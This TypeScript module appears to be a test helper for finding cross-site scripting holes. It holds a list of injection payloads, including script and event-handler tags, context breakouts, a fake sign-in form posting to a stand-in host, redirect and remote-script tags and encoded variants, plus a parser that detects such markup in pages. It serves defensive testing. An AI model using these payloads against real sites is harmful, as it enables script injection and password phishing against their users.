import { Script } from 'node:vm';
import { DomUtils, ElementType, parseDocument } from 'htmlparser2';

/** Part of the name of an element or attribute in each payload, by which parsed markup is recognised. */
export const marker = 'zqxm';

const run = 'window.zqxmRan=1';
const lineSeparator = '\u2028';

/** Texts that take effect if user text is parsed as markup or script; each is short enough for a title. */
export const markupPayloads = [
  `<script ${marker}>${run}</script>`,
  `<ScRiPt/${marker}>${run}</sCrIpT>`,
  `<script ${marker} src=//zqxm.example/a.js></script>`,
  `<script ${marker} type=module>${run}</script>`,
  `<img ${marker} src=x onerror=${run}>`,
  `<img/${marker}/src=x/onerror=${run}//`,
  `<img ${marker} src=https://zqxm.example/a.png>`,
  `<svg ${marker} onload=${run}>`,
  `<svg ${marker}><script>${run}</script></svg>`,
  `<svg ${marker}><a xlink:href="javascript:${run}">a</a></svg>`,
  `<math ${marker}><mtext><img src=x onerror=${run}></mtext></math>`,
  `<form ${marker} action=https://zqxm.example><input name=password><button>Sign In</button></form>`,
  `<button ${marker} formaction=https://zqxm.example>Sign In</button>`,
  `<input ${marker} autofocus onfocus=${run}>`,
  `<meta ${marker} http-equiv=refresh content="0;url=https://zqxm.example">`,
  `<base ${marker} href=https://zqxm.example/>`,
  `<link ${marker} rel=stylesheet href=https://zqxm.example/a.css>`,
  `<style ${marker}>*{display:none}</style>`,
  `<template ${marker}><script>${run}</script></template>`,
  `<iframe ${marker} srcdoc="<script>parent.zqxmRan=1</script>"></iframe>`,
  `<iframe ${marker} src="javascript:parent.zqxmRan=1"></iframe>`,
  `<object ${marker} data="data:text/html,<script>${run}</script>"></object>`,
  `<embed ${marker} src=https://zqxm.example>`,
  `<details ${marker} open ontoggle=${run}>`,
  `<video ${marker} src=x onerror=${run}></video>`,
  `<a ${marker} href="javascript:${run}">a</a>`,
  `<${marker}-element onclick=${run}>a</${marker}-element>`,
  `</title><script ${marker}>${run}</script>`,
  `</script><script ${marker}>${run}</script>`,
  `</style><img ${marker} src=x onerror=${run}>`,
  `</textarea><img ${marker} src=x onerror=${run}>`,
  `--><img ${marker} src=x onerror=${run}><!--`,
  `]]><img ${marker} src=x onerror=${run}>`,
  `<!--<script ${marker}>${run}</script>`,
  `" ${marker}="" onmouseover="${run}`,
  `' ${marker}='' onmouseover='${run}`,
  `"><img ${marker} src=x onerror=${run}>`,
  `'><img ${marker} src=x onerror=${run}>`,
  `"}</script><img ${marker} src=x onerror=${run}>{"`,
  `\\"}</script><img ${marker} src=x onerror=${run}>`,
  `<noscript><p title="</noscript><img ${marker} src=x onerror=${run}>">`,
] as const;

/** Texts that become markup only if they are decoded once too often or put into a script. */
const decodingPayloads = [
  `&lt;img ${marker} src=x onerror=${run}&gt;`,
  `&#60;script ${marker}&#62;${run}&#60;/script&#62;`,
  `&amp;lt;script ${marker}&amp;gt;`,
  `%3Cscript ${marker}%3E${run}%3C/script%3E`,
  `\\u003cscript ${marker}\\u003e${run}`,
  `";${run};//`,
  `';${run};//`,
  `\${${run}}`,
  `\`-(${run})-\``,
  `a${lineSeparator}${run}${lineSeparator}//`,
  `javascript:${run}`,
] as const;

export const allPayloads: readonly string[] = [...markupPayloads, ...decodingPayloads];

const urlAttributes = new Set([
  'href',
  'src',
  'action',
  'formaction',
  'xlink:href',
  'data',
  'srcdoc',
  'poster',
]);
const executable = /^[\s\p{Cc}]*(javascript|vbscript|data:text\/html)/iu;

/** The fault of a script in a page: it does not parse, or contains text that could close it; null if it is fine. */
function findScriptFault(type: string | undefined, code: string): string | null {
  if (/<\/script|<!--/i.test(code)) return 'a script has an end inside';
  try {
    if (type === 'application/ld+json' || type === 'importmap') JSON.parse(code);
    else if (type !== 'module') new Script(code);
    return null;
  } catch (error) {
    return `a script does not parse: ${String(error)}`;
  }
}

/** Lists user text (containing `marker`) that was parsed as markup or script in a page. */
export function findMarkup(html: string): string[] {
  const found: string[] = [];
  const document = parseDocument(html);
  const hasMarker = (node: object) => 'data' in node && String(node.data).includes(marker);
  const comments = DomUtils.find(
    (node) => node.type === ElementType.Comment && hasMarker(node),
    [document],
    true,
    Number.POSITIVE_INFINITY,
  );
  found.push(...comments.map(() => 'a comment'));
  for (const element of DomUtils.getElementsByTagName('*', document)) {
    const { name, attribs } = element;
    if (name.includes(marker)) found.push(`<${name}>`);
    for (const [attribute, value] of Object.entries(attribs)) {
      if (attribute.includes(marker) || attribute.startsWith('on')) found.push(`<${name} ${attribute}>`);
      if (urlAttributes.has(attribute) && executable.test(value))
        found.push(`<${name} ${attribute}="${value}">`);
    }
    if (name === 'base' || attribs['http-equiv'] !== undefined) found.push(`<${name}>`);
    if (name === 'style' && DomUtils.textContent(element).includes(marker)) found.push('<style>');
    if (name !== 'script') continue;
    const fault = findScriptFault(attribs.type, DomUtils.textContent(element));
    if (fault !== null) found.push(fault);
  }
  return found;
}
